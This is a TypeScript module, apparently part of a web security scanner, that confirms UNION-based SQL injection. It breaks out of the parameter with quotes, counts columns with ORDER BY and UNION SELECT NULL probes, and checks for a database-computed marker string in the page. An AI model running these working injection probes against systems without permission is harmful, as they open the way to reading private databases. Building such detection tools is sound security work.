// SQL injection by rows of our own: a second SELECT behind the first, whose computed text the page shows.
import type { Proof } from "../evidence.ts";
import type { Seed } from "../seed.ts";
import { baselineStep } from "./prober.ts";
import type { Answer, Prober } from "./prober.ts";
import { brokenBy } from "./sql-errors.ts";

export interface UnionAsking { seed: Seed; plain: string; /** No blanks: this place cannot carry them as they are. */ blank: string }

const ways = ["'", '"', "", "')", ")"] as const;
const mostColumns = 16;

/**
 * Only reads: a statement that writes takes no UNION behind its condition. Costs one request where a quote is answered as plain text
 * is, two for each way out of a text that is none; what is shown was computed (REPLACE, known to every database) and never sent.
 */
export async function proveBySqlUnion(prober: Prober, { seed, plain, blank }: UnionAsking): Promise<Proof | undefined> {
  const { value } = prober.point;
  const [broken, other] = [await prober.once(brokenBy(value)), await prober.once(plain)];
  if (broken.look === undefined || broken.look === other.look) return undefined;
  for (const out of ways.filter((one) => /^\D*$/.test(one) && (one !== "" && one !== ")" || /^-?\d+$/.test(value)))) {
    const ask = (text: string): Promise<Answer> => prober.ask(`${value}${out} ${text}-- `.replaceAll(/(?<=\S) (?=\S)/g, blank));
    const proof = await proveWay({ prober, seed, ask });
    if (proof !== undefined) return proof;
  }
  return undefined;
}

interface Asking { prober: Prober; seed: Seed; ask(text: string): Promise<Answer> }

async function proveWay({ prober, seed, ask }: Asking): Promise<Proof | undefined> {
  // The first column can be sorted by, the hundredth cannot: the way leads out of the value.
  const none = await ask("ORDER BY 99");
  const first = await ask("ORDER BY 1");
  if (none.look === undefined || first.look === undefined || none.look === first.look) return undefined;
  const columns = await columnsOf(ask, none);
  if (columns === undefined) return undefined;
  for (let at = 0; at < columns; at += 1) {
    const one = await shownAt(ask, { columns, at, seed, round: 1 });
    const again = one === undefined ? undefined : await shownAt(ask, { columns, at, seed, round: 2 });
    if (one === undefined || again === undefined) continue;
    return {
      technique: "union", confidence: "confirmed",
      because: `A second SELECT of ${columns} columns put "${one.text}" and then "${again.text}" into the page, which were computed by the database and never sent.`,
      steps: [...baselineStep(prober), prober.step("attack", one.answer, `"${one.text}" was computed and is shown`), prober.step("attack", again.answer, `"${again.text}" with other words`), prober.step("control", none, "sorting by the hundredth column fails"), prober.step("control", first, "sorting by the first does not")],
    };
  }
  return undefined;
}

/** NULL fits every type: the number of columns is right when it is no error any more. */
async function columnsOf(ask: Asking["ask"], error: Answer): Promise<number | undefined> {
  for (let columns = 1; columns <= mostColumns; columns += 1) {
    const { look, exchange } = await ask(`UNION SELECT ${Array.from({ length: columns }, () => "NULL").join(",")}`);
    if (look !== undefined && look !== error.look && (exchange.reply?.status ?? 500) < 500) return columns;
  }
  return undefined;
}

async function shownAt(ask: Asking["ask"], { columns, at, seed, round }: { columns: number; at: number; seed: Seed; round: number }): Promise<{ answer: Answer; text: string } | undefined> {
  const [head, tail] = [seed.word(`union/head/${at}/${round}`, 6), seed.word(`union/tail/${at}/${round}`, 6)];
  const text = `${head}${tail}`;
  const answer = await ask(`UNION SELECT ${Array.from({ length: columns }, (_, column) => (column === at ? `REPLACE('${head}WW${tail}','WW','')` : "NULL")).join(",")}`);
  return answer.exchange.reply?.text.includes(text) === true ? { answer, text } : undefined;
}
